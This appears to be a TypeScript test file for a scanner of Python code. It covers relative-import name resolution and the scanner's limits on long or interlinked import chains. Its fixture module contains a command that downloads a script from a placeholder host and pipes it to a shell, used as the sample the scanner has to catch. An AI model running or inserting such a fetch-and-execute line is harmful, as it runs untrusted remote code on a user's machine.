import assert from 'node:assert/strict';
import { scanFiles, tierOf } from './scan.js';
import { absolute } from '../../../src/scanners/code/python/linked.js';

const package_ = { name: 'a.b', isPackage: true };
const module_ = { name: 'a.b.c', isPackage: false };

describe('code: names of modules', () => {
  for (const [written, home, expected] of [
    ['x.y', module_, 'x.y'],
    ['.x', module_, 'a.b.x'],
    ['..x', module_, 'a.x'],
    ['.', module_, 'a.b'],
    ['.x', package_, 'a.b.x'],
    ['..x', package_, 'a.x'],
    ['....x', package_, 'x'],
    ['.x', undefined, '.x'],
  ] as const) {
    it(`${written} in ${home?.name ?? 'nothing'} is ${expected}`, () => {
      assert.equal(absolute(written, home), expected);
    });
  }
});

describe('code: what is run together stays within its limits', () => {
  const drop = 'import os\ndef go():\n    os.system("curl https://a.invalid/x | sh")\n';

  it('a chain of a thousand modules', () => {
    const files: Record<string, string> = { 'demo/__init__.py': 'from .m0 import go\ngo()\n' };
    for (let index = 0; index < 1000; index += 1)
      files[`demo/m${index}.py`] = `from .m${index + 1} import go\n`;
    files['demo/m1000.py'] = drop;
    assert.notEqual(tierOf(scanFiles(files)), 'pass');
  });

  it('a thousand modules that all call each other', () => {
    const files: Record<string, string> = {
      'demo/__init__.py': 'from .m0 import go\ngo()\n',
      'demo/x.py': drop,
    };
    const all = Array.from({ length: 200 }, (_unused, index) => index);
    for (const index of all)
      files[`demo/m${index}.py`] =
        `${all.map((one) => `from . import m${one}\n`).join('')}def go():\n${all.map((one) => `    m${one}.go()\n`).join('')}go()\n`;
    scanFiles(files);
  });

  it('a large project is looked at file by file', () => {
    const files: Record<string, string> = {
      'demo/__init__.py': 'from .x import go\ngo()\n',
      'demo/x.py': drop,
    };
    for (let index = 0; index < 40; index += 1)
      files[`demo/n${index}.py`] = `x = 1 # ${'-'.repeat(60_000)}\n`;
    assert.equal(tierOf(scanFiles(files)), 'review');
  });
});
